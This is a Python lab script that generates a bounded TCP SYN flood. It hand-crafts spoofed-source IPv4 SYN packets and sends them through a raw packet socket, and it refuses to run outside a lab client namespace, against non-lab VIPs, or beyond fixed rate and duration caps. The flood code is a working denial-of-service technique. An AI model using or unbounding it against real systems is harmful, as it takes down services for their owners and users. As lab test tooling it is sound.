# SPDX-License-Identifier: Apache-2.0
"""A bounded SYN flood, for the lab only: at most 20,000 packets/s, at most 60 s, from made-up sources, to a lab VIP.

It runs only in the network namespace of a lab's client and sends only to the lab's VIPs, so that it cannot leave the
lab. Output at the end: {"event": "flood", "packets": …, "seconds": …}.
"""

import errno
import ipaddress
import os
import random
import socket
import struct
import time

from lab import topology
from lab.client.load import say
from lab.namespace import RUN as NAMESPACES

RATE_MAX = 20_000
SECONDS_MAX = 60
PACKETS = 32_768  # made beforehand, then sent repeatedly
BATCH_SECONDS = 0.005


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: bytes, destination: bytes, source_port: int, port: int, sequence: int) -> bytes:
    """An IPv4 packet with a TCP SYN."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, socket.IPPROTO_TCP, 0, source, destination)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    tcp = struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    return ip + tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]


def refuse(what: str, value: object, allowed: str) -> None:
    raise SystemExit(f"flood: {what} '{value}' is refused; allowed: {allowed}")


def run(interface: str, gateway: str, host: str, port: int, rate: int, seconds: float, seed: int) -> None:
    here = os.stat("/proc/self/ns/net").st_ino
    if here not in {path.stat().st_ino for path in NAMESPACES.glob("fl-*-client*")}:
        refuse("network namespace", here, "that of a client of the lab")
    if ipaddress.ip_address(host) not in ipaddress.ip_network(topology.VIPS):
        refuse("destination", host, topology.VIPS)
    if not 1 <= rate <= RATE_MAX:
        refuse("rate", rate, f"1..{RATE_MAX} packets/s")
    if not 0 < seconds <= SECONDS_MAX:
        refuse("duration", seconds, f"up to {SECONDS_MAX} s")

    draw = random.Random(seed)
    sources = ipaddress.ip_network(topology.FLOOD_SOURCES)
    destination = ipaddress.ip_address(host).packed
    packets = []
    for _ in range(min(PACKETS, int(rate * seconds) + 1)):
        source = sources[draw.randrange(1, sources.num_addresses - 1)].packed
        packets.append(syn(source, destination, draw.randrange(1024, 65536), port, draw.getrandbits(32)))

    link = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    to = (interface, 0x0800, 0, 0, hardware_address(interface, gateway))
    started = time.monotonic()
    sent = 0
    while (elapsed := time.monotonic() - started) < seconds:
        due = min(int(rate * elapsed), sent + int(rate * BATCH_SECONDS * 4) + 1)  # late: do not catch up in one burst
        while sent < due:
            try:
                link.sendto(packets[sent % len(packets)], to)
            except OSError as error:
                if error.errno != errno.ENOBUFS:
                    raise
                break  # the kernel has no room for more at the moment
            sent += 1
        time.sleep(BATCH_SECONDS)
    say(event="flood", packets=sent, seconds=round(time.monotonic() - started, 2))


def hardware_address(interface: str, gateway: str) -> bytes:
    """The gateway's MAC address, from the kernel's table; a datagram to it first creates the entry."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.sendto(b"", (gateway, 9))
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline:
        with open("/proc/thread-self/net/arp") as table:
            for line in table:
                fields = line.split()
                if fields[0] == gateway and fields[5] == interface and fields[3] != "00:00:00:00:00:00":
                    return bytes.fromhex(fields[3].replace(":", ""))
        time.sleep(0.02)
    raise SystemExit(f"flood: gateway '{gateway}' does not answer on '{interface}'")
